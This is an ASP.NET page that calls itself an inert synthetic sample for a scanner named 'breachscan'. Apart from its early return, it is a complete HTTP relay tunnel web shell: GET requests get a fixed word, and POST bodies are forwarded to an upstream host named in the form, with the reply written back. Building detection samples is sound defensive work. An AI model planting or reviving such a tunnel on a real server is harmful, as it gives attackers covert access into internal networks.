<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Net" %>
<%-- synthetic test sample for breachscan: HTTP relay tunnel (GET answered with a fixed word,
     body forwarded to the server the form names, reply written back). Inert: returns first. --%>
<%
    if (true) { return; }
    if (Request.HttpMethod == "GET") { Response.Write("ready"); return; }
    string target = Request.Form["upstream"] + Request.Form["path"];
    byte[] body = new byte[Request.ContentLength];
    Request.InputStream.Read(body, 0, body.Length);
    HttpWebRequest up = (HttpWebRequest)WebRequest.Create(target);
    up.Method = "POST";
    using (Stream s = up.GetRequestStream()) { s.Write(body, 0, body.Length); }
    using (StreamReader r = new StreamReader(up.GetResponse().GetResponseStream())) {
        string reply = r.ReadToEnd();
        Response.Write(reply);
    }
%>
